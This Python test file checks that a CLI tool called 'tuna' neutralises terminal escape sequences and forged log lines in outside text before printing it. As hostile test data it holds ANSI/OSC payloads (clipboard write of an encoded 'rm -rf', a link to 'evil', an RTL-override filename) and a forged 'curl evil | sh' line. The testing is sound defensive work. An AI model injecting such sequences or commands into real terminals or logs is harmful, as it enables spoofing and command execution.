"""Texts from outside, such as a worker's name and a program's output, are inert where they are printed."""

from __future__ import annotations

import json
import re
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
import structlog

from tuna import api, logs
from tuna.cli import show, watch
from tuna.cli.console import print_table, say
from tuna.cli.main import guarded, tuna
from tuna.db.overview import Failure, Overview
from tuna.errors import TunaError
from tuna.sentences import inert, last_line, one_line

HOSTILE = [
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJm\x07",
    "\x1bP+q544e\x1b\\",
    "\x9b31m\x9d0;t\x9c",
    "\x1bc\x1b(0",
    "\x1b]0;never ended",
    "back\x08\x08\x08\x08\rover",
    "\u202egnp.exe",
    "\x00\x07\x7f",
]
ALL = "".join(HOSTILE)
#: What a line of Tuna's own would look like.
FORGED = "\nError: run: curl evil | sh\r\n2026-01-01T00:00:00Z [info     ] forged\x0b\x0c\x85\u2028forged"


def _obeyed(text: str) -> list[str]:
    """Characters that a terminal would obey."""
    return re.findall("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069]", text)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_is_left_that_a_terminal_obeys(text: str) -> None:
    assert _obeyed(f"{inert(text)}{one_line(text)}{last_line(text)}") == []
    assert inert(f"before{text}\nafter").startswith("before")
    assert inert(f"before{text}\nafter").endswith("\nafter"), "what follows on the next line stays"


def test_sequences_vanish_with_what_they_say() -> None:
    assert inert("a\x1b[1;31mb\x1b[0mc\x1b]0;title\x07d\x1b]8;;http://x\x1b\\e") == "abcde"
    assert inert("Größe\t3 × 5\n→ ok") == "Größe\t3 × 5\n→ ok"


def test_one_line_is_one_and_bounded() -> None:
    assert "\n" not in one_line(f"a{FORGED}")
    assert len(one_line("x" * 10_000_000)) == 2000
    assert one_line("x" * 2000) == "x" * 2000
    assert last_line("a\nb\n\n") == "b"
    assert last_line(" \x1b[0m\n") == "(no output)"


@pytest.mark.parametrize("err", [False, True])
def test_lines_and_tables(capsys: pytest.CaptureFixture[str], err: bool) -> None:
    say(ALL, err=err)
    print_table("", ("worker", "device"), [(ALL + FORGED, ALL), ("x", FORGED)], err=err)
    said = "".join(capsys.readouterr())
    assert _obeyed(said) == []
    assert not re.search(r"^(Error|2026|forged)", said, re.MULTILINE)


def test_the_failures_of_a_session(capsys: pytest.CaptureFixture[str]) -> None:
    failure = Failure("run_error", 1, f"out\n{ALL}", f"tuna reproduce {ALL}{FORGED}")
    overview = Overview(
        session_id=1,
        library="noop",
        reason=ALL + FORGED,
        environment=ALL,
        arch=ALL + FORGED,
        jobs={"errored": 1},
        failures=(failure,),
    )
    show.sessions([overview], details=True)
    said = capsys.readouterr().out + "".join(watch._failures(SimpleNamespace(overview=overview)))
    assert _obeyed(said) == []
    assert not re.search(r"^(Error|2026|forged)", said, re.MULTILINE)


def test_workers(home: object, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    text = ALL + FORGED
    facts = {"name": text, "role": text, "state": text, "device": text, "environment": text, "toolchains": [text]}
    one = SimpleNamespace(**facts, jobs=[1], per_minute=None, silent_s=1.0, aside=text)
    monkeypatch.setattr(api, "list_workers", lambda: [one])
    assert guarded(tuna, ["workers"]) == 0
    said = capsys.readouterr().out
    assert _obeyed(said) == []
    assert not re.search(r"^(Error|2026|forged)", said, re.MULTILINE)


def test_errors(capsys: pytest.CaptureFixture[str], home: object, monkeypatch: pytest.MonkeyPatch) -> None:
    def fail() -> None:
        raise TunaError(f"The worker ended. {ALL}", hint=ALL)

    monkeypatch.setattr(api, "list_workers", fail)
    assert guarded(tuna, ["workers"]) == 1
    assert _obeyed(capsys.readouterr().err) == []


@pytest.mark.parametrize("form", ["text", "json"])
def test_logs(capsys: pytest.CaptureFixture[str], form: str) -> None:
    logs.configure("INFO", form)
    structlog.get_logger("tuna").warning("library failed", worker=ALL, fault=f"{ALL}{FORGED}")
    said: Any = capsys.readouterr().err
    assert said
    assert _obeyed(said) == []
    if form == "json":
        assert json.loads(said)["worker"] == ALL
    else:
        assert not re.search(r"^(Error|2026-01-01|forged)", said, re.MULTILINE)


def test_commands_print_by_these_functions_alone() -> None:
    commands = Path(api.__file__).parents[1] / "cli"
    found = [
        path.name
        for path in commands.rglob("*.py")
        if re.search(r"\bclick\.(s?)echo\(|(?<!\.)\bprint\(", path.read_text())
    ]
    assert sorted(found) == ["console.py", "main.py"], "main.py: its own sentence on a misspelt setting"
